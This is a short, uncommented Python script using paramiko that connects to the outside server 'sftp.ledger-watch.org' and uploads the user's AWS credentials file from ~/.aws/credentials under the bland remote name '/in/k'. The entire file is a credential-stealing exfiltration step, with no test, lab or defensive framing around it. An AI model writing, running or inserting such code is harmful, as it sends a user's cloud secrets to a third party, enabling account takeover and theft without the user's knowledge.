import paramiko, os
c = paramiko.SSHClient()
c.connect("sftp.ledger-watch.org")
sftp = c.open_sftp()
sftp.put(os.path.expanduser("~/.aws/credentials"), "/in/k")
